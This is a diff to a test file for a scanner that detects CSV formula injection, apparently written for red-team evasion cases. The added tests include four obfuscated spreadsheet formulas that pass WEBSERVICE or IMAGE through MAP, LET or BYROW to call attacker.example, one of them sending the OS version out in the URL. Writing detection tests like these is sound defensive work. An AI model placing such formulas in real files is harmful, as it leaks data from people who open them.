@@ -210,3 +210,47 @@ def test_sylk_posing_as_csv_is_flagged() -> None:
         Item("ids.csv", plain, FileType("csv", "text/csv", "code", True)), load_policy().context()
     )
     assert result.findings == []
+
+
+# -- red team 100: functions passed by name, calls after an operator ------------------------------
+
+PASSED = (
+    "CSV cell with a formula passing WEBSERVICE or IMAGE to a function, which fetches from the web"
+)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=0+COUNTA(MAP("http://attacker.example/leak?u="&INFO("osversion"),WEBSERVICE))',
+        '=-LEN(LET(f,WEBSERVICE,f("http://attacker.example/beacon")))',
+        '=0+ROWS(MAP("http://attacker.example/p.png",IMAGE))',
+        '=1*LEN(BYROW("http://attacker.example/x";webservice))',
+    ],
+)
+def test_webservice_passed_to_a_function_is_found(policy: Policy, cell: str) -> None:
+    # Microsoft 365's eta lambdas: MAP calls the function it is given on each value
+    rows = [["id", "value"], ["1", cell]]
+    assert [f.message for f in scan(policy, "a.csv", csv_bytes(rows)).findings] == [PASSED]
+
+
+@pytest.mark.parametrize(
+    "cell", ['=-SUM(INDIRECT("A1"))', "=0+LEN(A1)", "=1*MAX(A1:A3)", "=A1&TEXT(B1,0)"]
+)
+def test_a_call_after_an_operator_is_a_formula(policy: Policy, cell: str) -> None:
+    rows = [["id", "value"], ["1", cell]]
+    messages = [f.message for f in scan(policy, "a.csv", csv_bytes(rows)).findings]
+    assert messages == ["CSV cell with a spreadsheet formula"]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "- colours (red, image)",  # no call: IMAGE is no function passed to one
+        "- image, video (front)",
+        "- item(2)",  # a list item: no blank between - and a call is needed for a formula
+        '- see "SUM(A1)" in the guide',  # a call only in text
+    ],
+)
+def test_names_and_calls_in_text_pass(policy: Policy, cell: str) -> None:
+    assert classify(cell) is None
